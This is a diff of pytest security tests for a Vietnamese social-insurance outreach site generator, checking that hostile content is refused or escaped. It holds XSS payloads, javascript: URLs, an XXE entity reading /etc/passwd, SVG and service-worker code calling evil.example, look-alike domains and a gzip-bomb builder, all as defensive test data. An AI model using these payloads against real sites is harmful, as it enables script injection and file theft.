@@ -859,12 +859,13 @@ def test_read_only_site(base_site, tmp_path):
 
 def test_killed_build_leaves_nothing_behind_the_next_one(base_site, tmp_path):
     root = base_site.copy(tmp_path)
-    add(root, "vi/tu-nguyen/muc-dong.md", page("Mức đóng", "Mức đóng mới.", order=1))
-    started = time.monotonic()
+    # A flyer to render: the build says so once the new site is being staged beside the old one.
+    add(root, "vi/tu-nguyen/muc-dong.md", page("Mức đóng", "<!-- flyer -->\nMức đóng mới.\n<!-- /flyer -->", order=1))
     process = start_outreach(*build_args(root))
-    while not staging_left(root) and process.poll() is None and time.monotonic() - started < 60:
-        time.sleep(0.02)
-    assert process.poll() is None, "the build ended before it could be interrupted"
+    for line in process.stdout:  # an event, not a wait of so many seconds
+        if line.decode("utf-8").startswith("Đang tạo tờ gấp"):
+            break
+    assert staging_left(root), "the build is staging its site"
     os.killpg(process.pid, signal.SIGKILL)
     process.communicate()
     assert snapshot(root / "site") == base_site.site  # the killed build did not touch the site
@@ -983,3 +984,494 @@ def test_empty_row_deletes_no_translation(sheet_project, tmp_path):
     run = import_rows(root, [["tu-nguyen/index.md", "bahnar", source_hash_of(root, "tu-nguyen/index.md"), "", "", ""]])
     assert run.returncode == 0 and "Traceback" not in run.output, run.tail()
     assert (root / "content" / "bahnar" / "tu-nguyen" / "index.md").read_text(encoding="utf-8") == existing
+
+
+# === issue 20: every value untrusted, every route to paper gated, the site survives any interruption ===
+#
+# | class | attacks | expected outcome |
+# |---|---|---|
+# | values | hotline with markup, Arabic-Indic digits or letters; site_url breaking out of an attribute, with
+#   user info or a query; over-long office and contact names; U+202E / U+2066 / C1 controls in a contact, a
+#   title, a campaign message, a page body | refused at the value's own `path:line`; a hotline that would
+#   slip past the check is escaped by the templates (no script runs in Chromium) |
+# | active content | SVG with script, onload, foreignObject, an outside href, a DOCTYPE, a stylesheet
+#   instruction; .html, .js, .xml beside a page; HTML named .png | refused at the file's line |
+# | paper | hand-typed amounts and percentages (campaign message, flyer action part), an unverified figure
+#   quoted in a campaign, a loopback address in a commune office, a placeholder domain in a campaign, an
+#   unknown placeholder in a commune's hours; look-alike, nip.io and IP-literal site addresses; an
+#   address change without --new-site-url | refused by `--release` at the `path:line` it was written |
+# | interruption | the build killed before, during and after each step of the switch, with and
+#   without the atomic exchange, then a build that fails | the published site byte-identical to a
+#   complete site (the old one, or the new one once the exchange happened), no staging folder left |
+
+from generator.build import BuildOptions, Project, compose  # noqa: E402
+from generator.problems import ContentError  # noqa: E402
+import datetime as _dt  # noqa: E402
+
+REAL_ADDRESS = "https://gialai.baohiemxahoi.gov.vn/tuyen-truyen/"
+RELEASE_DAY = _dt.date.fromisoformat(AS_OF)
+PRINTED_OVERVIEW = ("---\ntitle: BHXH tự nguyện\n---\n\nTổng quan.\n\n<!-- leaflet -->\n<!-- flyer -->\n"
+                    "Mức đóng là {{ policy.voluntary.rate }} thu nhập bạn chọn.\n<!-- /flyer -->\n<!-- /leaflet -->\n")
+
+
+def ready(root: Path, pages: dict | None = None, *, verified: bool = True, data: dict | None = None,
+          site_yml=None) -> Project:
+    """A project a release may print, but for what the attack changes (data: file name in content/ -> text)."""
+    project = write_project(root, {"vi/index.md": HOME, "vi/tu-nguyen/index.md": PRINTED_OVERVIEW, **(pages or {})})
+    site = project.site_file.read_text(encoding="utf-8")
+    site = re.sub(r"(?m)^site_url: .*$", f"site_url: {REAL_ADDRESS}", site)
+    project.site_file.write_text(site_yml(site) if site_yml else site, encoding="utf-8")
+    if verified:
+        policy_file = project.content_dir / "policy.yml"
+        policy_file.write_text(policy_file.read_text(encoding="utf-8").replace("verified: false", "verified: true"), encoding="utf-8")
+    for name, text in (data or {}).items():
+        (project.content_dir / name).write_text(text, encoding="utf-8")
+    return project
+
+
+def composed(project: Project, **options) -> list[tuple[str, int, str]]:
+    """The (path, line, message) of each error that compose() refuses, or [] if it composes."""
+    try:
+        compose(project, BuildOptions(RELEASE_DAY, **{"release": True, **options}))
+    except ContentError as error:
+        return [(str(p.path), p.line, p.message) for p in error.problems]
+    return []
+
+
+def assert_refused_at(problems, path: str, line: int, words: str = "") -> None:
+    hits = [m for p, n, m in problems if p == path and n == line and any(ord(c) > 127 for c in m) and "\n" not in m]
+    assert hits, f"expected {path}:{line}: lỗi: … ({words}), got {problems}"
+    if words:
+        assert any(words in m for m in hits), hits
+
+
+def line_with(text: str, needle: str) -> int:
+    return text[: text.index(needle)].count("\n") + 1
+
+
+def campaign(message: str, name: str = "Tháng vận động 2026") -> str:
+    return ("campaigns:\n  - code: tvd26\n    name: " + name + "\n    start: 2026-11-01\n    end: 2026-12-31\n"
+            "    audiences: [tu-nguyen]\n    message: " + json.dumps(message, ensure_ascii=False) + "\n")
+
+
+def commune(**office) -> str:
+    fields = {"name": "Bưu điện xã Ia Grai", "address": "Thôn 1, xã Ia Grai", "hours": "Thứ Hai – Thứ Sáu, 7:00–11:30",
+              "phone": "0269 3824 111", **office}
+    contact = fields.pop("contact_name", None)
+    text = ("communes:\n  - code: iagrai\n    name: Ia Grai\n    kind: xã\n    office:\n"
+            + "".join(f"      {k}: {json.dumps(v, ensure_ascii=False)}\n" for k, v in fields.items()))
+    if contact is not None:
+        text += f"    contact:\n      name: {json.dumps(contact, ensure_ascii=False)}\n      phone: \"0912 345 678\"\n"
+    return text
+
+
+import json  # noqa: E402
+
+# --- values from YAML: refused at their line ---------------------------------------------------------
+
+HOTLINES = {
+    "v1-markup": '"<svg onload=alert(1)>"',
+    "v2-arabic-indic-digits": '"١٩٠٠ ٩٠٦٨"',
+    "v3-letters": '"1900 9068 (máy lẻ 2)"',
+    "v4-quote": '"1900\\" onmouseover=\\"alert(1)"',
+}
+
+
+@pytest.mark.parametrize("name", list(HOTLINES))
+def test_hotline_is_ascii_digits_in_a_phone_format(name, tmp_path):
+    project = ready(tmp_path / "p", site_yml=lambda s: re.sub(r'(?m)^  hotline: .*$', f"  hotline: {HOTLINES[name]}", s))
+    text = project.site_file.read_text(encoding="utf-8")
+    assert_refused_at(composed(project), "content/site.yml", line_with(text, "  hotline:"), "hotline")
+
+
+SITE_URLS = {
+    "v5-attribute-breakout": 'https://gialai.baohiemxahoi.gov.vn/"><svg onload=alert(1)>/',
+    "v6-user-info": "https://admin:x@gialai.baohiemxahoi.gov.vn/",
+    "v7-query": "https://gialai.baohiemxahoi.gov.vn/?next=javascript:alert(1)",
+    "v8-scheme": "javascript://gialai.baohiemxahoi.gov.vn/%0aalert(1)",
+}
+
+
+@pytest.mark.parametrize("name", list(SITE_URLS))
+def test_site_url_is_parsed_and_rebuilt(name, tmp_path):
+    project = ready(tmp_path / "p", site_yml=lambda s: re.sub(r"(?m)^site_url: .*$", f"site_url: '{SITE_URLS[name]}'", s))
+    text = project.site_file.read_text(encoding="utf-8")
+    assert_refused_at(composed(project, release=False), "content/site.yml", line_with(text, "site_url:"), "không phải địa chỉ")
+
+
+def test_long_office_and_contact_names_are_refused(tmp_path):
+    text = commune(name="Bưu điện " * 15, contact_name="Nguyễn Văn " * 10)
+    problems = composed(ready(tmp_path / "p", data={"communes.yml": text}), release=False)
+    assert_refused_at(problems, "content/communes.yml", line_with(text, "      name: \"Bưu điện"), "dài quá")
+    assert_refused_at(problems, "content/communes.yml", line_with(text, "      name: \"Nguyễn"), "dài quá")
+
+
+INVISIBLE = {
+    "v9-rlo-in-contact": ("communes.yml", lambda c: commune(contact_name=f"Nguyễn Văn A {c}876 543 2190"), "\u202e"),
+    "v10-isolate-in-title": ("vi/tu-nguyen/muc-dong.md", lambda c: page(f"Mức đóng {c}x", "Mức đóng."), "\u2066"),
+    "v11-c1-in-campaign": ("campaigns.yml", lambda c: campaign(f"Đăng ký {c} ở bưu điện xã."), "\u009b"),
+    "v12-rlo-in-body": ("vi/tu-nguyen/muc-dong.md", lambda c: page("Mức đóng", f"Gọi {c}8609 0091."), "\u202e"),
+    "v13-lre-in-site": ("site.yml", None, "\u202a"),
+}
+
+
+@pytest.mark.parametrize("name", list(INVISIBLE))
+def test_control_and_bidi_characters_are_refused_at_their_line(name, tmp_path):
+    rel, make, character = INVISIBLE[name]
+    project = ready(tmp_path / "p")
+    target = project.content_dir / rel
+    if make is None:
+        text = target.read_text(encoding="utf-8").replace("issuer: ", f"issuer: {character}")
+    else:
+        text = make(character)
+    target.parent.mkdir(parents=True, exist_ok=True)
+    target.write_bytes(text.encode("utf-8"))  # json.dumps escapes nothing: ensure_ascii=False
+    text = text if character in text else text.encode().decode("unicode_escape")
+    line = next(n for n, l in enumerate(text.split("\n"), 1) if character in l or f"\\u{ord(character):04x}" in l)
+    assert_refused_at(composed(project, release=False), f"content/{rel}", line, f"U+{ord(character):04X}")
+
+
+def hotline_page(generator_copy, root: Path, browser, *, escaped: bool) -> tuple[str, set[str]]:
+    """The voluntary guide's HTML and the markers that ran in Chromium, built by a copy of the generator whose
+    hotline check is removed (and, unless `escaped`, whose templates print the hotline raw)."""
+    content = generator_copy.package / "sources" / "content.py"
+    content.write_text(content.read_text(encoding="utf-8").replace(
+        '    if not HOTLINE_CHARACTERS.match(value):', '    return value\n    if not HOTLINE_CHARACTERS.match(value):'), encoding="utf-8")
+    if not escaped:
+        for name in ("main.html", "partials/copyright.html", "404.html"):
+            template = generator_copy.package / "templates" / "mkdocs" / name
+            template.write_text(template.read_text(encoding="utf-8").replace(
+                '| e | replace("{hotline}", outreach.hotline | e)', '| replace("{hotline}", outreach.hotline)'), encoding="utf-8")
+    project = write_project(root, {"vi/index.md": HOME, "vi/tu-nguyen/index.md": OVERVIEW})
+    site = project.site_file.read_text(encoding="utf-8")
+    project.site_file.write_text(re.sub(r'(?m)^  hotline: .*$', '  hotline: "<img src=x onerror=pwned1=1>"', site), encoding="utf-8")
+    result = generator_copy.outreach("build", "--project", str(root), "--site-dir", str(root / "site"), "--as-of", AS_OF)
+    assert result.returncode == 0, result.stdout[-2000:] + result.stderr[-2000:]
+    reader = Reader(browser)
+    with serving(root / "site") as url:
+        _, fired = reader.visit(lambda p: p.goto(url + "tu-nguyen/", wait_until="load").status)
+    reader.close()
+    return (root / "site" / "tu-nguyen" / "index.html").read_text(encoding="utf-8"), fired
+
+
+@pytest.mark.browser
+def test_templates_escape_a_hotline_that_slipped_past_the_check(generator_copy, tmp_path, browser):
+    """Defence in depth: with the hotline check removed from a copy of the generator, the page still runs nothing."""
+    html, fired = hotline_page(generator_copy, tmp_path / "project", browser, escaped=True)
+    assert "&lt;img src=x onerror=pwned1=1&gt;" in html and "<img src=x" not in html
+    assert fired == set()
+
+
+@pytest.mark.browser
+def test_the_hotline_payload_runs_when_the_templates_print_it_raw(generator_copy, tmp_path, browser):
+    """The control: the same payload through templates without `| e` runs on the page."""
+    _, fired = hotline_page(generator_copy, tmp_path / "project", browser, escaped=False)
+    assert fired == {"pwned1"}
+
+
+# --- active content in content/ ----------------------------------------------------------------------
+
+SVG_HEAD = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">\n'
+ACTIVE = {
+    "a1-svg-script": ("tu-nguyen/so-do.svg", SVG_HEAD + '<rect width="5"/>\n<script>pwned1=1</script>\n</svg>\n', 3),
+    "a2-svg-onload": ("tu-nguyen/so-do.svg", SVG_HEAD + '<g>\n<rect width="5" onload="pwned2=1"/>\n</g>\n</svg>\n', 3),
+    "a3-svg-foreign-object": ("tu-nguyen/so-do.svg", SVG_HEAD + '<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p>'
+                                                               '</foreignObject>\n</svg>\n', 2),
+    "a4-svg-outside-href": ("tu-nguyen/so-do.svg", SVG_HEAD + '\n<use href="https://evil.example/x.svg#a"/>\n</svg>\n', 3),
+    "a5-svg-doctype": ("tu-nguyen/so-do.svg", '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
+                                              + SVG_HEAD + "<text>&x;</text></svg>\n", 2),
+    "a6-svg-stylesheet": ("tu-nguyen/so-do.svg", '<?xml-stylesheet href="https://evil.example/a.css"?>\n' + SVG_HEAD + "</svg>\n", 1),
+    "a7-html-beside-a-page": ("tu-nguyen/trang.html", "<script>pwned7=1</script>", 1),
+    "a8-javascript": ("tu-nguyen/sw.js", "self.addEventListener('fetch', e => e.respondWith(fetch('https://evil.example')));", 1),
+    "a9-xml": ("tu-nguyen/data.xml", '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">pwned9=1</x:script>', 1),
+    "a10-html-named-png": ("tu-nguyen/anh.png", "<html><script>pwned10=1</script></html>", 1),
+}
+
+
+@pytest.mark.parametrize("name", list(ACTIVE))
+def test_active_content_is_refused(name, tmp_path):
+    rel, text, line = ACTIVE[name]
+    project = ready(tmp_path / "p", {f"vi/{rel}": text})
+    assert_refused_at(composed(project, release=False), f"content/vi/{rel}", line)
+
+
+def test_a_plain_drawing_is_published(tmp_path):
+    svg = SVG_HEAD + '<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs>\n' \
+                     '<rect width="5" height="5" fill="url(#g)"/><use href="#g"/><text x="1" y="8">Mức đóng</text>\n</svg>\n'
+    project = ready(tmp_path / "p", {"vi/tu-nguyen/so-do.svg": svg})
+    assert composed(project, release=False) == []
+
+
+# --- every route to paper: the release gate reads the text ---------------------------------------------
+
+PAPER = {
+    "g1-amount-in-campaign": lambda: {"campaigns.yml": campaign("Mức đóng thấp nhất 1.500.000 đồng mỗi tháng.")},
+    "g2-percent-in-campaign": lambda: {"campaigns.yml": campaign("Nhà nước hỗ trợ 30% mức đóng cho hộ nghèo.")},
+    "g3-vnd-in-campaign-name": lambda: {"campaigns.yml": campaign("Đăng ký ở bưu điện xã.", name="Chỉ từ 330000 VND")},
+    "g4-loopback-office": lambda: {"communes.yml": commune(address="Đăng ký tại http://127.0.0.1:8080/dang-ky")},
+    "g5-placeholder-domain": lambda: {"campaigns.yml": campaign("Xem thêm ở https://bhxh-gialai.example/chien-dich/.")},
+    "g6-lookalike-in-office": lambda: {"communes.yml": commune(address="gialai.baohiemxahoi.gov.vn.evil-example.com/dang-ky")},
+    "g7-nip-io-in-campaign": lambda: {"campaigns.yml": campaign("Đăng ký trực tuyến: https://10.0.0.1.nip.io/")},
+}
+
+
+@pytest.mark.parametrize("name", list(PAPER))
+def test_release_refuses_what_paper_must_not_carry(name, tmp_path):
+    data = PAPER[name]()
+    project = ready(tmp_path / "p", data=data)
+    [(file, text)] = data.items()
+    needle = "message:" if file == "campaigns.yml" and "g3" not in name else ("name: Chỉ" if "g3" in name else "address:")
+    problems = composed(project)
+    assert_refused_at(problems, f"content/{file}", line_with(text, needle))
+    # A draft shows it (marked as a draft): only a release is refused.
+    assert [p for p in composed(project, release=False) if p[0] == f"content/{file}"] == []
+
+
+def test_release_refuses_a_hand_typed_amount_in_a_flyer_action_part(tmp_path):
+    body = ("Tổng quan.\n\n<!-- leaflet -->\n<!-- flyer -->\nMức đóng {{ policy.voluntary.rate }}.\n<!-- /flyer -->\n<!-- /leaflet -->\n\n"
+            "<!-- flyer: action -->\n- Mang theo 3.000.000 VND tiền mặt.\n<!-- /flyer -->\n")
+    text = page("BHXH tự nguyện", body)
+    problems = composed(ready(tmp_path / "p", {"vi/tu-nguyen/index.md": text}))
+    assert_refused_at(problems, "content/vi/tu-nguyen/index.md", line_with(text, "3.000.000 VND"), "gõ tay")
+
+
+def test_release_refuses_an_unverified_figure_quoted_in_a_campaign(tmp_path):
+    text = campaign("Hộ nghèo được hỗ trợ {{ policy.voluntary.support.poor }} mức đóng.")
+    project = ready(tmp_path / "p", data={"campaigns.yml": text}, verified=False)
+    assert_refused_at(composed(project), "content/campaigns.yml", line_with(text, "message:"), "voluntary.support.poor")
+
+
+def test_placeholders_are_resolved_or_refused_in_every_commune_field(tmp_path):
+    text = commune(hours="{{ policy.no_such_figure }}")
+    assert_refused_at(composed(ready(tmp_path / "p", data={"communes.yml": text})), "content/communes.yml", line_with(text, "  - code:"),
+                      "policy.no_such_figure")
+    text = commune(hours="Gọi trước: {{ site.hotline }}")
+    composition = compose(ready(tmp_path / "q", data={"communes.yml": text}), BuildOptions(RELEASE_DAY))
+    assert composition.communes[0].office.hours == "Gọi trước: 1900 9068"
+
+
+def test_dates_articles_and_phones_are_not_amounts(tmp_path):
+    body = ("Tổng quan.\n\n<!-- leaflet -->\n<!-- flyer -->\nTheo Điều 5 khoản 2, từ 01/7/2025 (ngày 2026-01-01), gọi 0269 3824 111; "
+            "mức đóng {{ policy.voluntary.rate }}.\n<!-- /flyer -->\n<!-- /leaflet -->\n")
+    assert composed(ready(tmp_path / "p", {"vi/tu-nguyen/index.md": page("BHXH tự nguyện", body)})) == []
+
+
+SITE_ADDRESSES = {
+    "g8-lookalike": "https://gialai.baohiemxahoi.gov.vn.evil-example.com/",
+    "g9-nip-io": "https://10.0.0.1.nip.io/",
+    "g10-sslip-io": "https://192-168-1-1.sslip.io/tt/",
+    "g11-public-ip-literal": "https://203.0.113.5/tt/",
+    "g12-plain-http": "http://gialai.baohiemxahoi.gov.vn/",
+}
+
+
+@pytest.mark.parametrize("name", list(SITE_ADDRESSES))
+def test_release_refuses_an_address_no_reader_should_trust(name, tmp_path):
+    address = SITE_ADDRESSES[name]
+    project = ready(tmp_path / "p", site_yml=lambda s: re.sub(r"(?m)^site_url: .*$", f"site_url: {address}", s))
+    text = project.site_file.read_text(encoding="utf-8")
+    assert_refused_at(composed(project), "content/site.yml", line_with(text, "site_url:"), "Bản phát hành cần địa chỉ thật")
+
+
+def test_release_keeps_the_published_address_unless_told(tmp_path):
+    project = ready(tmp_path / "p")
+    previous = tmp_path / "manifest.json"
+    previous.write_text(json.dumps({"site_url": "https://bhxh.gialai.gov.vn/tt/"}), encoding="utf-8")
+    text = project.site_file.read_text(encoding="utf-8")
+    try:
+        compose(project, BuildOptions(RELEASE_DAY, release=True), previous)
+        problems = []
+    except ContentError as error:
+        problems = [(str(p.path), p.line, p.message) for p in error.problems]
+    assert_refused_at(problems, "content/site.yml", line_with(text, "site_url:"), "--new-site-url")
+    compose(project, BuildOptions(RELEASE_DAY, release=True, new_site_url=True), previous)  # said on purpose: accepted
+
+
+# --- the site survives any interruption -----------------------------------------------------------------
+
+KILL = """
+import datetime as dt, os, sys
+from pathlib import Path
+import generator.swap as swap
+from generator.build import BuildOptions, Project, build
+
+step, renames = sys.argv[1], []
+if step.startswith("no-exchange-"):  # a system without renameat2: the switch takes two renames
+    swap.exchange = lambda first, second: False
+    step = step.removeprefix("no-exchange-")
+real_exchange, real_rename, real_rmtree = swap.exchange, os.rename, swap.shutil.rmtree
+
+def exchange(first, second):
+    if step == "exchange":
+        os._exit(9)
+    done = real_exchange(first, second)
+    if step == "exchange-after":
+        os._exit(9)
+    return done
+
+def rename(source, target):
+    if {Path(source).name, Path(target).name} <= {"site", swap.OLD}:  # the switch's renames only
+        renames.append(source)
+        if step == f"rename{len(renames)}":
+            os._exit(9)
+    return real_rename(source, target)
+
+def rmtree(path, *args, **kwargs):
+    if step == "rmtree" and Path(path).name in ("site", swap.OLD):
+        victim = sorted(Path(path).rglob("*.html"))[0]
+        victim.unlink()  # half-way through removing the old site
+        os._exit(9)
+    return real_rmtree(path, *args, **kwargs)
+
+swap.exchange, swap.os.rename, swap.shutil.rmtree = exchange, rename, rmtree
+root = Path(sys.argv[2])
+build(Project(root), root / "site", BuildOptions(dt.date(2026, 11, 25)))
+"""
+# Where the kill falls: before or after the step that publishes the new site.
+KILL_STEPS = {"exchange": "old", "exchange-after": "new", "rmtree": "new",
+              "no-exchange-rename1": "old", "no-exchange-rename2": "old", "no-exchange-rmtree": "new"}
+
+
+@pytest.fixture(scope="module")
+def swap_base(tmp_path_factory) -> BaseSite:
+    root = tmp_path_factory.mktemp("swap") / "project"
+    write_project(root, BASE_PAGES)
+    run = build(root)
+    assert run.returncode == 0, run.tail()
+    return BaseSite(root, snapshot(root / "site"))
+
+
+@pytest.mark.parametrize("step", list(KILL_STEPS))
+def test_a_build_killed_in_the_switch_then_a_failing_build_keep_a_whole_site(step, swap_base, tmp_path):
+    root = swap_base.copy(tmp_path)
+    add(root, "vi/tu-nguyen/moi.md", page("Trang mới", "Nội dung mới.", order=2))
+    killed = subprocess.run([sys.executable, "-c", KILL, step, str(root)], cwd=REPO, capture_output=True, text=True,
+                            env={**os.environ, "PYTHONPATH": str(REPO)}, timeout=600)
+    assert killed.returncode == 9, killed.stderr[-3000:]
+    add(root, "vi/tu-nguyen/hong.md", "---\ntitle: [\n---\n")  # a content mistake: the next build fails
+    run = build(root)
+    assert_refused(run, "content/vi/tu-nguyen/hong.md")
+    after = snapshot(root / "site")
+    if KILL_STEPS[step] == "new":
+        # The switch happened before the kill: the new site, whole, is the published one.
+        assert "tu-nguyen/moi/index.html" in after and set(swap_base.site) < set(after)
+    else:
+        assert after == swap_base.site
+    assert staging_left(root) == []
+
+
+# --- moves of printed codes are visible --------------------------------------------------------------
+
+MOVES = {
+    "m1-another-audience": "moves:\n  tn: vi/sinh-vien/index.md\n",
+    "m2-another-language": "moves:\n  tn: bahnar/tu-nguyen/index.md\n",
+    "m3-two-printed-codes-swapped": "moves:\n  tn: vi/sinh-vien/index.md\n  sv: vi/tu-nguyen/index.md\n",
+}
+
+
+@pytest.mark.parametrize("name", list(MOVES))
+def test_a_move_to_another_audience_or_language_needs_a_reason(name, swap_base, tmp_path):
+    root = swap_base.copy(tmp_path)
+    edit_lock(root, lambda text: text + MOVES[name])
+    lock = (root / "content" / "qr-lock.yml").read_text(encoding="utf-8")
+    problems = composed(Project(root), release=False)
+    for code in re.findall(r"(?m)^  (\w+): ", MOVES[name]):
+        line = next(n for n, l in enumerate(lock.split("\n"), 1) if l.startswith(f"  {code}: ") and n > line_with(lock, "\nmoves:") + 1)
+        assert_refused_at(problems, "content/qr-lock.yml", line, "reason")
+    # With its reason the same move is accepted.
+    reasoned = lock[: lock.index("\nmoves:") + 1] + "moves:\n" + "".join(
+        f"  {code}:\n    to: {target}\n    reason: Gộp hai trang hướng dẫn\n" for code, target in re.findall(r"(?m)^  (\w+): (\S+)$", MOVES[name]))
+    (root / "content" / "qr-lock.yml").write_text(reasoned, encoding="utf-8")
+    assert [p for p in composed(Project(root), release=False) if p[0] == "content/qr-lock.yml"] == []
+
+
+def test_moves_are_in_the_summary_the_manifest_and_the_next_release(swap_base, tmp_path):
+    root = swap_base.copy(tmp_path)
+    edit_lock(root, lambda text: text + "moves:\n  tn: vi/tu-nguyen/muc-dong.md\n")
+    run = build(root)
+    assert run.returncode == 0, run.tail()
+    assert re.search(r"Mã QR `tn`: `vi/tu-nguyen/index.md` → `vi/tu-nguyen/muc-dong.md` \(từ 2026-11-25\)", run.output), run.tail()
+    manifest = json.loads((root / "site" / "manifest.json").read_text(encoding="utf-8"))
+    assert manifest["moves"] == [{"code": "tn", "from": "vi/tu-nguyen/index.md", "to": "vi/tu-nguyen/muc-dong.md",
+                                  "since": AS_OF, "reason": None, "released": False}]
+    release = build(root, "--release", "--site-url", REAL_ADDRESS, "--new-site-url")
+    assert release.returncode == 0, release.tail()
+    assert "Mã QR chuyển trang kể từ lần phát hành trước: 1:" in release.output and "`tn`: `vi/tu-nguyen/index.md`" in release.output
+    again = build(root, "--release", "--site-url", REAL_ADDRESS, "--as-of", "2026-11-26")
+    assert again.returncode == 0, again.tail()
+    assert "Mã QR chuyển trang kể từ lần phát hành trước: không có." in again.output
+
+
+# --- statistics under hostile logs --------------------------------------------------------------------
+
+STATS_MEMORY = 768 * 2**20  # address space of `outreach stats`: a log larger than this cannot be held whole
+PHONE = "Mozilla/5.0 (Linux; Android 13; SM-A145F) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36"
+
+
+def log_line(path: str, address: str = "203.0.113.7", when: str = "01/Nov/2026:08:00:00 +0700") -> str:
+    return f'{address} - - [{when}] "GET {path} HTTP/1.1" 200 512 "-" "{PHONE}"'
+
+
+def gzip_bomb(path: Path, size: int, chunk: bytes = b"A") -> Path:
+    """`size` bytes of `chunk` once decompressed, no newline, a few hundred KB on disk (one gzip member repeated)."""
+    import gzip
+    block = 16 * 2**20
+    member = gzip.compress(chunk * (block // len(chunk)), compresslevel=9, mtime=0)
+    with path.open("wb") as out:
+        for _ in range(-(-size // block)):
+            out.write(member)
+    return path
+
+
+def stats_run(*args) -> Run:
+    started = time.monotonic()
+    process = subprocess.Popen([sys.executable, "-m", "generator", "stats", *map(str, args), "--site-url", "https://gialai.example/",
+                                "--format", "json"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=REPO, start_new_session=True,
+                               env={**os.environ, "CI": "1"})
+    resource.prlimit(process.pid, resource.RLIMIT_AS, (STATS_MEMORY, STATS_MEMORY))
+    out, err = process.communicate(timeout=600)
+    return Run(process.returncode, out.decode() + "\n--stderr--\n" + err.decode(), time.monotonic() - started)
+
+
+@pytest.fixture(scope="module")
+def good_log(tmp_path_factory) -> Path:
+    log = tmp_path_factory.mktemp("logs") / "access.log"
+    log.write_text("\n".join([log_line("/q/tn/"), log_line("/q/tn-/"), log_line("/q/tn-%3Cscript%3E/"),
+                              log_line("/q/khong-co/"), log_line("/q/tnb/", address="198.51.100.23")]) + "\n", encoding="utf-8")
+    return log
+
+
+def counts_of(run: Run) -> dict:
+    return json.loads(run.output.split("\n--stderr--\n")[0])
+
+
+def test_codes_the_site_never_had_are_counted_apart(good_log):
+    run = stats_run(good_log)
+    assert run.returncode == 0, run.tail()
+    counts = counts_of(run)
+    assert counts["codes"] == {"tn": 1, "tnb": 1} and counts["not_counted"]["unknown_codes"] == 3
+
+
+@pytest.mark.slow
+def test_a_decompression_bomb_is_one_line_and_the_other_logs_are_counted(good_log, tmp_path):
+    bomb = gzip_bomb(tmp_path / "access.log.3.gz", 2**30 + 2**24)  # 1 GiB and a bit, not a single newline
+    assert bomb.stat().st_size < 5 * 2**20
+    run = stats_run(good_log, bomb)
+    assert "Traceback" not in run.output and "MemoryError" not in run.output, run.tail()
+    assert run.returncode == 1, run.tail()
+    assert counts_of(run)["codes"] == {"tn": 1, "tnb": 1}  # the good log, counted as if alone
+    stderr = run.output.split("\n--stderr--\n")[1]
+    [line] = [l for l in stderr.splitlines() if str(bomb) in l]
+    assert "quá lớn khi giải nén" in line and "Các tệp khác vẫn được đếm" in line
+
+
+def test_an_endless_line_is_one_malformed_line(good_log, tmp_path):
+    log = tmp_path / "access.log.1"
+    with log.open("wb") as out:
+        out.write((log_line("/q/tn/", address="192.0.2.44") + "\n").encode())
+        out.write(b"x" * (64 * 2**20) + b"\n")  # 64 MB on one line
+        out.write((log_line("/q/tnb/", address="192.0.2.45") + "\n").encode())
+    run = stats_run(log)
+    assert run.returncode == 0, run.tail()
+    counts = counts_of(run)
+    assert counts["codes"] == {"tn": 1, "tnb": 1} and counts["not_counted"]["malformed_lines"] == 1
